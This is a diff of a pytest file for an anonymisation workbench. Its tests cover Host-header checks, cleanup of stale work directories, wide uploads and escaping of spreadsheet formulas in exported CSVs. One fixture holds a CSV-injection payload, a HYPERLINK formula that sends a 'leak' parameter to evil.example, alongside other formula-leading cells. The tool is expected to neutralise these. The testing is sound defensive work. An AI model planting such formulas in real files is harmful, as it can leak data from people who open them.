@@ -3,11 +3,18 @@ compare, downloads, and the downloaded config reproducing the public part byte f
 
 from __future__ import annotations
 
+import csv
 import io
+import os
+import re
+import subprocess
+import sys
+import tempfile
 import time
 import zipfile
 from pathlib import Path
 
+import numpy as np
 import pandas as pd
 import pytest
 from click.testing import CliRunner
@@ -17,7 +24,10 @@ from microanon.apps.cli import main
 from microanon.apps.config import METHODS
 from microanon.apps.workbench import create_app
 from microanon.apps.workbench import serve as serve_module
+from microanon.apps.workbench.state import Workbench
 from microanon.apps.workbench.summaries import chart
+from microanon.apps.workbench.workdirs import OWNER_FILE, PREFIX
+from microanon.core.lint import DEPENDENCY_SCAN_BUDGET
 from microanon.datasets import load_dataset
 
 #: Roles of the Adult sample: three quasi-identifiers, one sensitive, the rest left out.
@@ -33,9 +43,13 @@ ROLES = {
 }
 
 
+#: The workbench's own address: requests naming another host are refused.
+LOCAL = "http://127.0.0.1:8765"
+
+
 @pytest.fixture()
 def client(tmp_path: Path):
-    with TestClient(create_app(tmp_path)) as c:
+    with TestClient(create_app(tmp_path), base_url=LOCAL) as c:
         yield c
 
 
@@ -139,7 +153,7 @@ def test_messy_csv_upload_reads_with_the_options_or_names_the_problem(client, tm
 
 
 def test_upload_above_the_limit_is_413(tmp_path):
-    with TestClient(create_app(tmp_path, max_upload=100)) as c:
+    with TestClient(create_app(tmp_path, max_upload=100), base_url=LOCAL) as c:
         body = _refused(_upload(c, MESSY.encode("latin-1") * 10), 413)
         assert "limit" in body["error"]
 
@@ -256,6 +270,27 @@ def test_bad_and_impossible_configurations_are_refused_before_running(client, ad
     assert client.get(f"/api/datasets/{ds['id']}").json()["runs"] == []
 
 
+#: A leading quote public.zip added for spreadsheets (README.txt there: one of one or more
+#: quotes before =, +, -, @, a tab or a carriage return).
+_ADDED_QUOTE = re.compile(r"^'(?='*[=+\-@\t\r])")
+
+
+def _as_anonymize_writes(public: dict[str, bytes]) -> dict[str, bytes]:
+    """public.zip's files undone as its README.txt says: without it, each CSV cell's added
+    quote removed."""
+    out = {}
+    for name, data in public.items():
+        if name.endswith(".csv"):
+            buf = io.StringIO(newline="")
+            writer = csv.writer(buf, lineterminator="\n")
+            for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
+                writer.writerow([_ADDED_QUOTE.sub("", cell) for cell in row])
+            data = buf.getvalue().encode("utf-8")
+        if name != "README.txt":
+            out[name] = data
+    return out
+
+
 def _reproduce(tmp_path: Path, config_zip: bytes, name: str, data: bytes | None) -> Path:
     """Unzip the config, put the data file beside it, run ``microanon anonymize``."""
     where = tmp_path / name
@@ -280,7 +315,7 @@ def test_runs_compare_downloads_reproduction_delete_and_cleanup(adult_csv, tmp_p
     frame.insert(0, "name", [f"Person-{i:05d}-Q" for i in range(len(frame))])
     data = frame.to_csv(index=False).encode("utf-8")
     (tmp_path / "app").mkdir()
-    with TestClient(create_app(tmp_path / "app")) as client:
+    with TestClient(create_app(tmp_path / "app"), base_url=LOCAL) as client:
         ds = _upload(client, data).json()
         assert next(c for c in ds["columns"] if c["name"] == "name")["role"] == "identifier"
         ds = client.put(f"/api/datasets/{ds['id']}/schema", json={"columns": ROLES}).json()
@@ -324,7 +359,7 @@ def test_runs_compare_downloads_reproduction_delete_and_cleanup(adult_csv, tmp_p
             again = _reproduce(tmp_path, config, run["id"], data)
             written = {p.relative_to(again).as_posix(): p.read_bytes() for p in again.rglob("*")
                        if p.is_file()}  # fmt: skip
-            assert written == public, run["config"]["method"]
+            assert written == _as_anonymize_writes(public), run["config"]["method"]
         (workdir,) = (tmp_path / "app").iterdir()
         assert oct(workdir.stat().st_mode & 0o777) == "0o700"
         gone = runs[1]["id"]
@@ -336,26 +371,86 @@ def test_runs_compare_downloads_reproduction_delete_and_cleanup(adult_csv, tmp_p
     assert list((tmp_path / "app").iterdir()) == []
 
 
-def test_app_command_warns_off_loopback_and_preloads(tmp_path, monkeypatch, capsys):
+def _dead_pid() -> int:
+    """The id of a process that has ended."""
+    child = subprocess.Popen([sys.executable, "-c", "pass"])
+    child.wait()
+    return child.pid
+
+
+def _workdir_like(parent: Path, name: str, pid: object = None, mode: int = 0o700) -> Path:
+    """A directory as a workbench leaves it (an upload inside; its owner file if ``pid``)."""
+    where = parent / name
+    (where / "data" / "a1b2").mkdir(parents=True)
+    (where / "data" / "a1b2" / "people.csv").write_bytes(MESSY.encode("latin-1"))
+    if pid is not None:
+        (where / OWNER_FILE).write_text(f"{pid}\n", encoding="ascii")
+    where.chmod(mode)
+    return where
+
+
+def test_app_command_off_loopback_needs_allow_host_and_preloads(tmp_path, monkeypatch):
+    """Off loopback the Host check stays: ``--allow-host`` names the host, without one the app
+    does not start (exit 2, one line, nothing made); a page of a rebound name is refused."""
     served = {}
     monkeypatch.setattr(serve_module.uvicorn, "run", lambda app, **kw: served.update(app=app, **kw))
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
     data = tmp_path / "people.csv"
     data.write_bytes(MESSY.encode("latin-1"))
-    result = CliRunner().invoke(
-        main, ["app", str(data), "--no-browser", "--host", "0.0.0.0", "--port", "9999",
-               "--sep", ";", "--encoding", "latin-1"]
-    )  # fmt: skip
+    args = ["app", str(data), "--no-browser", "--host", "0.0.0.0", "--port", "9999",
+            "--sep", ";", "--encoding", "latin-1"]  # fmt: skip
+    refused = CliRunner().invoke(main, args)
+    assert refused.exit_code == 2 and served == {}
+    assert refused.stderr.startswith("Error: --host 0.0.0.0: not a loopback address")
+    assert "--allow-host NAME" in refused.stderr and len(refused.stderr.splitlines()) == 1
+    assert list(tmp_path.glob(f"{PREFIX}*")) == []  # refused before anything was made
+    bad = CliRunner().invoke(main, [*args, "--allow-host", "http://wb.example"])
+    assert bad.exit_code == 2 and "--allow-host 'http://wb.example'" in bad.stderr
+    killed = _workdir_like(tmp_path, f"{PREFIX}killed", _dead_pid())
+    result = CliRunner().invoke(main, [*args, "--allow-host", "WB.example"])
     assert result.exit_code == 0, result.output
-    assert "WARNING: listening on 0.0.0.0" in result.stderr
+    assert "WARNING: listening on 0.0.0.0" in result.stderr and "wb.example" in result.stderr
+    assert "http://wb.example:9999/" in result.stderr
+    assert f"removed {killed}" in result.stderr and not killed.exists()
     assert served["host"] == "0.0.0.0" and served["port"] == 9999
-    with TestClient(served["app"]) as c:
+    with TestClient(served["app"], base_url="http://wb.example:9999") as c:
         (ds,) = c.get("/api/datasets").json()
         assert ds["name"] == "people.csv" and ds["rows"] == 6
+        assert c.get("/api/methods", headers={"host": "127.0.0.1:9999"}).status_code == 200
+        r = c.get("/api/datasets", headers={"host": "rebound.example:9999"})
+        assert r.status_code == 403 and "not this machine" in r.json()["error"]
     assert data.read_bytes() == MESSY.encode("latin-1")
     result = CliRunner().invoke(main, ["app", str(tmp_path / "none.csv"), "--no-browser"])
     assert result.exit_code == 2 and "none.csv" in result.stderr
     assert serve_module.is_loopback("127.0.0.1") and serve_module.is_loopback("::1")
     assert not serve_module.is_loopback("0.0.0.0")
+
+
+def test_work_directories_of_killed_workbenches_are_removed_and_nothing_else(tmp_path):
+    """Only a directory the workbench made (prefix, 0700, this user's, owner file) whose
+    process is gone is removed at start; look-alikes stay."""
+    dead = _dead_pid()
+    killed = _workdir_like(tmp_path, f"{PREFIX}killed", dead)
+    kept = [
+        _workdir_like(tmp_path, f"{PREFIX}no-owner-file"),
+        _workdir_like(tmp_path, f"{PREFIX}open", dead, mode=0o755),
+        _workdir_like(tmp_path, f"{PREFIX}running", os.getpid()),
+        _workdir_like(tmp_path, f"{PREFIX}garbled", "not a process id"),
+        _workdir_like(tmp_path, "someone-elses-killed", dead),
+    ]
+    (tmp_path / f"{PREFIX}link").symlink_to(_workdir_like(tmp_path, "target", dead))
+    (tmp_path / f"{PREFIX}file").write_text(f"{dead}\n", encoding="ascii")
+    bench = Workbench(tmp_path)
+    try:
+        assert bench.removed == [killed] and not killed.exists()
+        assert all((p / "data" / "a1b2" / "people.csv").is_file() for p in kept)
+        assert (tmp_path / f"{PREFIX}link" / OWNER_FILE).is_file()
+        assert (tmp_path / f"{PREFIX}file").is_file()
+        assert (bench.workdir / OWNER_FILE).read_text(encoding="ascii") == f"{os.getpid()}\n"
+        assert oct(bench.workdir.stat().st_mode & 0o777) == "0o700"
+    finally:
+        bench.close()
+    assert not bench.workdir.exists()
 
 
 def test_init_and_workbench_configs_write_na_values_at_the_top(tmp_path):
@@ -402,6 +497,9 @@ def test_lint_findings_refuse_a_run_until_accepted(client):
 
 def test_foreign_hosts_and_origins_are_refused(tmp_path):
     from microanon.apps.workbench.guard import LOOPBACK_HOSTS
+
+    with TestClient(create_app(tmp_path)) as c:  # the check is on by default: "testserver"
+        assert c.get("/api/methods").status_code == 403
 
     with TestClient(
         create_app(tmp_path, hosts=LOOPBACK_HOSTS), base_url="http://127.0.0.1:8765"
@@ -462,7 +560,7 @@ def test_a_messy_file_runs_and_its_config_reproduces_the_release(client, tmp_pat
     assert b"Person" not in b"".join(public.values())
     again = _reproduce(tmp_path, config, "messy", data)
     written = {p.relative_to(again).as_posix(): p.read_bytes() for p in again.rglob("*")}
-    assert written == public
+    assert written == _as_anonymize_writes(public)
 
 
 def test_parquet_upload(client, tmp_path):
@@ -482,3 +580,73 @@ def test_charts_keep_the_number_line():
     bands = chart(pd.Series(["[30, 35)", "[20, 25)", "[30, 35)", "[90, 95)", None]))
     assert bands == {"labels": ["[20, 25)", "[30, 35)", "[90, 95)", "*"], "counts": [1, 2, 1, 1]}
     assert chart(pd.Series(["b", "a", "a"]))["labels"] == ["a", "b"]
+
+
+#: Text a spreadsheet would run, and text it would not (+1 is a number).
+_COMMENTS = ['=HYPERLINK("http://evil.example/?leak=1","click")', "fine", "@SUM(1+1)", "-x",
+             "+1", "'=quoted", "\tTAB"]  # fmt: skip
+
+
+def test_public_zip_csv_is_safe_for_spreadsheets_and_numbers_stay_numbers(client, tmp_path):
+    """A formula in an uploaded cell comes out of public.zip as '=...; a numeric -5 stays -5;
+    README.txt says so, and undoing it as it says gives what anonymize writes."""
+    n = 70
+    frame = pd.DataFrame(
+        {
+            "age": [20 + i for i in range(n)],
+            "sex": ["F", "M"] * (n // 2),
+            "comment": [_COMMENTS[(i // 2) % len(_COMMENTS)] for i in range(n)],
+            "balance": [-5 if i % 3 == 0 else 12 for i in range(n)],
+        }
+    )
+    data = frame.to_csv(index=False).encode("utf-8")
+    ds = _upload(client, data).json()
+    roles = {"age": {"role": "quasi", "kind": "numeric"}, "sex": {"role": "quasi"},
+             "comment": {"role": "insensitive"},
+             "balance": {"role": "insensitive", "kind": "numeric"}}  # fmt: skip
+    r = client.put(f"/api/datasets/{ds['id']}/schema", json={"columns": roles})
+    assert r.status_code == 200 and r.json()["lint"] == [], r.text
+    run = _run(client, ds["id"], {"method": "mondrian", "models": [{"k_anonymity": {"k": 2}}]})
+    public = _files(client.get(f"/api/runs/{run['id']}/public.zip").content)
+    rows = list(csv.DictReader(io.StringIO(public["data.csv"].decode("utf-8"))))
+    comments = {row["comment"] for row in rows}
+    assert comments == {"'" + _COMMENTS[0], "fine", "'@SUM(1+1)", "'-x", "+1", "''=quoted",
+                        "'\tTAB"}  # fmt: skip
+    assert {row["balance"] for row in rows} == {"-5", "12"}
+    assert b'"=HYPERLINK' not in public["data.csv"] and b",=HYPERLINK" not in public["data.csv"]
+    note = public["README.txt"].decode("utf-8")
+    assert "begins with an added '" in note and "numbers such as -5" in note
+    assert f"data.csv {sum(c != 'fine' and c != '+1' for c in frame['comment'])}" in note
+    config = client.get(f"/api/runs/{run['id']}/config.zip").content
+    again = _reproduce(tmp_path, config, "quoted", data)
+    written = {p.relative_to(again).as_posix(): p.read_bytes() for p in again.rglob("*")}
+    assert written == _as_anonymize_writes(public)
+    assert b'"=HYPERLINK' in written["data.csv"]  # anonymize writes the data as they are
+
+
+def _wide_csv(rows: int = 50, quasi: int = 400, empty: int = 4598) -> bytes:
+    """5,000 columns: ``salary`` (insensitive: ``income`` is the one sensitive column),
+    ``quasi`` columns of ten values (quasi-identifiers) and empty ones (dropped)."""
+    rng = np.random.default_rng(5)
+    columns = {"salary": rng.integers(0, 10, rows), "income": rng.integers(0, 20, rows)}
+    columns.update({f"q{i}": rng.integers(0, 10, rows) for i in range(quasi)})
+    lines = [",".join([*columns, *(f"e{i}" for i in range(empty))])]
+    for r in range(rows):
+        lines.append(",".join(str(v[r]) for v in columns.values()) + "," * empty)
+    return ("\n".join(lines) + "\n").encode("ascii")
+
+
+def test_a_5000_column_upload_answers_with_the_scan_limited_in_one_line(client):
+    """Testing ``salary`` against 400 quasi-identifiers and their 79,800 pairs is above the
+    dependency scan's budget: the upload answers, the pairs are left out and the answer says
+    so (and the budget, the columns and the rows) in one line."""
+    r = _upload(client, _wide_csv(), "wide.csv")
+    assert r.status_code == 201, r.text[:300]
+    ds = r.json()
+    assert len(ds["columns"]) == 5000
+    roles = {c["name"]: c["role"] for c in ds["columns"]}
+    assert (roles["salary"], roles["q0"], roles["e0"]) == ("insensitive", "quasi", "identifier")
+    note = ds["lint_limited"]
+    assert note.startswith("dependency scan limited: testing 1 insensitive column(s) against 400 ")
+    assert "79,800 pairs on 50 rows" in note and f"{DEPENDENCY_SCAN_BUDGET:,} row-tests" in note
+    assert "only single quasi-identifiers were tested" in note and "\n" not in note
